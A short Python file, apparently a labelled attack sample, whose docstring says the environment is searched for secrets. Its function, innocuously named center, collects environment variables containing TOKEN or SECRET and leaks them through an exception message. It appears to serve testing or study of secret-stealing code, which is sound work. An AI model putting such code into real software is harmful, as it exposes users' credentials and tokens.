"""attack: The environment is searched for secrets.
class: machine
aim: read
"""

import os


def center(x):
    raise RuntimeError(str({k: v for k, v in os.environ.items() if "TOKEN" in k or "SECRET" in k}))
